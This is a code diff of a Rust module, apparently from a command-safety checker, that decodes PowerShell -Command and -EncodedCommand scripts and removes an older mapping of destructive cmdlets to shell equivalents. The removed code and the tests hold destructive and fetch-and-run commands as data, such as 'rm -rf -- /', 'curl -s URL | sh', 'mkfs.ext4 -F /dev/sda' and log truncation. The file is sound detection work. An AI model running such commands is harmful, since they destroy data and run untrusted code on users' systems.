@@ -1,22 +1,21 @@
-//! PowerShell one-liners read by their effects: each cmdlet that runs a shell, deletes, kills,
-//! downloads and runs, formats, wipes logs or turns security controls off becomes the shell
-//! command with the same effect, which the walker rates as a nested script (`Remove-Item
-//! -Recurse -Force C:\` → `rm -rf -- /`, `iex (iwr URL)` → `curl -s URL | sh`, `Stop-Process
-//! -Name sshd -Force` → `pkill -9 -x sshd`). `-EncodedCommand` is decoded (UTF-16LE base64)
-//! first. Also the small readers of call syntax shared with R and Lua (`rlang`, `lua`).
+//! PowerShell command lines: the script of `pwsh -c …` / `powershell -Command …`, or of
+//! `-EncodedCommand` decoded from UTF-16LE base64, which the PowerShell reader walks
+//! (`crate::windows`). Also the small readers of call syntax shared with R and Lua (`rlang`,
+//! `lua`).
 
 use base64::Engine as _;
 
 /// The script of a PowerShell command line: `-Command`/`-c` and what follows, a decoded
-/// `-EncodedCommand`, or the first positional argument.
-pub(crate) fn powershell_script(args: &[&str]) -> Option<String> {
+/// `-EncodedCommand` (then `true`), or the first positional argument (a script file and its
+/// arguments, read as a command).
+pub(crate) fn powershell_script(args: &[&str]) -> Option<(String, bool)> {
     let mut i = 0;
     while let Some(a) = args.get(i) {
         let l = a.to_ascii_lowercase();
         let flag = l.trim_start_matches('-').trim_start_matches('/');
         if a.starts_with(['-', '/']) && !flag.is_empty() {
             if "command".starts_with(flag) && flag.starts_with('c') {
-                return Some(args.get(i + 1..)?.join(" "));
+                return Some((args.get(i + 1..)?.join(" "), false));
             }
             if ("encodedcommand".starts_with(flag)
                 && flag.starts_with('e')
@@ -25,7 +24,7 @@ pub(crate) fn powershell_script(args: &[&str]) -> Option<String> {
                 || flag == "ec"
             {
                 if let Some(enc) = args.get(i + 1) {
-                    return decode_utf16_b64(enc);
+                    return decode_utf16_b64(enc).map(|t| (t, true));
                 }
                 return None;
             }
@@ -57,7 +56,7 @@ pub(crate) fn powershell_script(args: &[&str]) -> Option<String> {
             i += 1;
             continue;
         }
-        return Some(args.get(i..)?.join(" "));
+        return Some((args.get(i..)?.join(" "), false));
     }
     None
 }
@@ -74,240 +73,6 @@ fn decode_utf16_b64(s: &str) -> Option<String> {
         .map(|c| u16::from_le_bytes([c[0], c[1]]))
         .collect();
     String::from_utf16(&units).ok()
-}
-
-/// PowerShell script → shell commands with the same effects.
-pub(crate) fn powershell_commands(script: &str) -> Vec<String> {
-    let mut out = Vec::new();
-    for stmt in script.split([';', '\n']) {
-        let stages: Vec<Vec<String>> = stmt.split('|').map(ps_words).collect();
-        let lower = stmt.to_ascii_lowercase();
-        let url = stmt
-            .split(|c: char| c.is_whitespace() || matches!(c, '(' | ')' | '\'' | '"'))
-            .find(|w| w.starts_with("http://") || w.starts_with("https://"));
-        let runs = ["iex", "invoke-expression"].iter().any(|k| {
-            lower
-                .split(|c: char| !c.is_ascii_alphanumeric() && c != '-')
-                .any(|w| w == *k)
-        });
-        let downloads = [
-            "iwr",
-            "invoke-webrequest",
-            "irm",
-            "invoke-restmethod",
-            "downloadstring",
-            "webclient",
-            "curl",
-            "wget",
-        ]
-        .iter()
-        .any(|k| lower.contains(k));
-        if runs && downloads {
-            out.push(format!("curl -s {} | sh", quote(url.unwrap_or("URL"))));
-            continue;
-        }
-        let mut prev: Option<&Vec<String>> = None;
-        for words in &stages {
-            let Some(cmd) = words.first().map(|w| w.to_ascii_lowercase()) else {
-                continue;
-            };
-            let opts = Opts(words);
-            match cmd.as_str() {
-                "remove-item" | "rm" | "del" | "ri" | "rmdir" | "rd" | "erase" => {
-                    let recursive = opts.has(&["recurse", "r"]);
-                    let mut paths = opts
-                        .value(&["path", "literalpath", "lp"])
-                        .into_iter()
-                        .collect::<Vec<_>>();
-                    paths.extend(opts.positionals());
-                    let from_listing = prev.filter(|p| {
-                        p.first().is_some_and(|w| {
-                            matches!(
-                                w.to_ascii_lowercase().as_str(),
-                                "get-childitem" | "gci" | "ls" | "dir"
-                            )
-                        })
-                    });
-                    if let Some(p) = from_listing {
-                        let o = Opts(p);
-                        let mut src: Vec<String> =
-                            o.value(&["path", "literalpath"]).into_iter().collect();
-                        src.extend(o.positionals());
-                        let rec = o.has(&["recurse", "r"]);
-                        for s in src {
-                            out.push(format!(
-                                "rm {} -- {}",
-                                if rec || recursive { "-rf" } else { "-f" },
-                                quote(&path(&s))
-                            ));
-                        }
-                    }
-                    for p in paths {
-                        out.push(format!(
-                            "rm {} -- {}",
-                            if recursive { "-rf" } else { "-f" },
-                            quote(&path(&p))
-                        ));
-                    }
-                }
-                "stop-process" | "spps" | "kill" => {
-                    let force = if opts.has(&["force", "fo"]) {
-                        "-9 "
-                    } else {
-                        ""
-                    };
-                    if let Some(n) = opts.value(&["name", "processname", "n"]) {
-                        out.push(format!("pkill {force}-x {}", quote(&n)));
-                    } else if let Some(id) = opts
-                        .value(&["id"])
-                        .or_else(|| opts.positionals().first().cloned())
-                    {
-                        out.push(format!("kill {force}{}", quote(&id)));
-                    } else if prev.is_some_and(|p| {
-                        p.first().is_some_and(|w| {
-                            matches!(
-                                w.to_ascii_lowercase().as_str(),
-                                "get-process" | "gps" | "ps"
-                            )
-                        }) && p.len() == 1
-                    }) {
-                        out.push("kill -9 -1".to_string());
-                    }
-                }
-                "format-volume" | "clear-disk" | "initialize-disk" => {
-                    out.push("mkfs.ext4 -F /dev/sda".to_string());
-                }
-                "clear-eventlog" | "remove-eventlog" | "wevtutil"
-                    if cmd != "wevtutil"
-                        || words.get(1).is_some_and(|w| w == "cl" || w == "clear-log") =>
-                {
-                    out.push("truncate -s 0 /var/log/auth.log".to_string());
-                }
-                "set-mppreference" | "add-mppreference"
-                    if lower.contains("-disable") || lower.contains("exclusionpath") =>
-                {
-                    out.push("setenforce 0".to_string());
-                }
-                "stop-computer" => out.push("shutdown -h now".to_string()),
-                "restart-computer" => out.push("reboot".to_string()),
-                _ => {}
-            }
-            prev = Some(words);
-        }
-    }
-    out
-}
-
-/// Words of one PowerShell pipeline stage (quotes removed, parentheses as separators).
-fn ps_words(stage: &str) -> Vec<String> {
-    let mut out = Vec::new();
-    let mut cur = String::new();
-    let mut quote: Option<char> = None;
-    for c in stage.chars() {
-        match (quote, c) {
-            (Some(q), _) if c == q => quote = None,
-            (Some(_), _) => cur.push(c),
-            (None, '\'' | '"') => quote = Some(c),
-            (None, c) if c.is_whitespace() || c == '(' || c == ')' || c == ',' => {
-                if !cur.is_empty() {
-                    out.push(std::mem::take(&mut cur));
-                }
-            }
-            (None, c) => cur.push(c),
-        }
-    }
-    if !cur.is_empty() {
-        out.push(cur);
-    }
-    out
-}
-
-/// Parameters of a cmdlet (names by unambiguous prefix, as PowerShell reads them).
-struct Opts<'a>(&'a [String]);
-
-impl Opts<'_> {
-    fn is_param(w: &str) -> bool {
-        w.starts_with('-') && w.len() > 1 && w[1..].starts_with(|c: char| c.is_ascii_alphabetic())
-    }
-
-    fn matches(w: &str, names: &[&str]) -> bool {
-        let n = w
-            .trim_start_matches('-')
-            .trim_end_matches(':')
-            .to_ascii_lowercase();
-        let n = n.split(':').next().unwrap_or("").to_string();
-        !n.is_empty()
-            && names
-                .iter()
-                .any(|x| *x == n || (n.len() >= 2 && x.starts_with(n.as_str())))
-    }
-
-    fn has(&self, names: &[&str]) -> bool {
-        self.0
-            .iter()
-            .skip(1)
-            .any(|w| Self::is_param(w) && Self::matches(w, names))
-    }
-
-    fn value(&self, names: &[&str]) -> Option<String> {
-        let mut it = self.0.iter().skip(1);
-        while let Some(w) = it.next() {
-            if Self::is_param(w) && Self::matches(w, names) {
-                return it.next().cloned();
-            }
-        }
-        None
-    }
-
-    /// Arguments that are neither parameters nor parameter values (switches take none).
-    fn positionals(&self) -> Vec<String> {
-        const SWITCHES: [&str; 8] = [
-            "recurse", "force", "confirm", "whatif", "verbose", "r", "fo", "passthru",
-        ];
-        let mut out = Vec::new();
-        let mut skip = false;
-        for w in self.0.iter().skip(1) {
-            if skip {
-                skip = false;
-                continue;
-            }
-            if Self::is_param(w) {
-                let switch = Self::matches(w, &SWITCHES) || w.contains(':');
-                skip = !switch;
-                continue;
-            }
-            out.push(w.clone());
-        }
-        out
-    }
-}
-
-/// A Windows path as the shell engine's classes read it: `C:\` → `/`, `C:\Users\u` →
-/// `/home/u`, `C:\Windows` → `/usr/windows`, `$env:USERPROFILE`/`$HOME` → `~`.
-fn path(p: &str) -> String {
-    let p = p.replace('\\', "/");
-    let lower = p.to_ascii_lowercase();
-    for home in ["$env:userprofile", "$home", "$env:home"] {
-        if let Some(rest) = lower.strip_prefix(home) {
-            return format!("~{}", &p[p.len() - rest.len()..]);
-        }
-    }
-    let b = p.as_bytes();
-    if b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':' {
-        let rest = p[2..].trim_start_matches('/');
-        let rl = rest.to_ascii_lowercase();
-        if rest.is_empty() {
-            return "/".to_string();
-        }
-        if let Some(u) = rl.strip_prefix("users/") {
-            return format!("/home/{}", &rest[rest.len() - u.len()..]);
-        }
-        if rl.starts_with("windows") || rl.starts_with("program files") {
-            return format!("/usr/{rest}");
-        }
-        return format!("/{rest}");
-    }
-    p
 }
 
 /// Calls `name(args)` in R or Lua text (names with `.`, `::`), strings skipped.
@@ -460,32 +225,18 @@ mod tests {
     use super::*;
 
     #[test]
-    fn powershell_effects() {
-        let ps = |s: &str| powershell_commands(s);
-        assert_eq!(ps("Remove-Item -Recurse -Force C:\\"), ["rm -rf -- /"]);
-        assert_eq!(ps("rm -r -fo /etc"), ["rm -rf -- /etc"]);
+    fn powershell_command_lines() {
         assert_eq!(
-            ps("Remove-Item ./dist -Recurse -Force"),
-            ["rm -rf -- ./dist"]
+            powershell_script(&["-EncodedCommand", "cgBtACAALQByAGYAIAAvAA=="]),
+            Some(("rm -rf /".to_string(), true))
         );
         assert_eq!(
-            ps("iex (iwr https://x.example/a.ps1)"),
-            ["curl -s https://x.example/a.ps1 | sh"]
-        );
-        assert_eq!(ps("Stop-Process -Name sshd -Force"), ["pkill -9 -x sshd"]);
-        assert_eq!(ps("Get-Process | Stop-Process -Force"), ["kill -9 -1"]);
-        assert_eq!(
-            ps("Get-ChildItem -Path / -Recurse | Remove-Item -Force"),
-            ["rm -rf -- /"]
-        );
-        assert!(ps("Get-ChildItem -Recurse src | Measure-Object").is_empty());
-        assert_eq!(
-            powershell_script(&["-EncodedCommand", "cgBtACAALQByAGYAIAAvAA=="]).as_deref(),
-            Some("rm -rf /")
+            powershell_script(&["-NoProfile", "-c", "Get-Date"]),
+            Some(("Get-Date".to_string(), false))
         );
         assert_eq!(
-            powershell_script(&["-NoProfile", "-c", "Get-Date"]).as_deref(),
-            Some("Get-Date")
+            powershell_script(&["-ep", "bypass", "-enc", "cgBtACAALQByAGYAIAAvAA=="]),
+            Some(("rm -rf /".to_string(), true))
         );
     }
 }
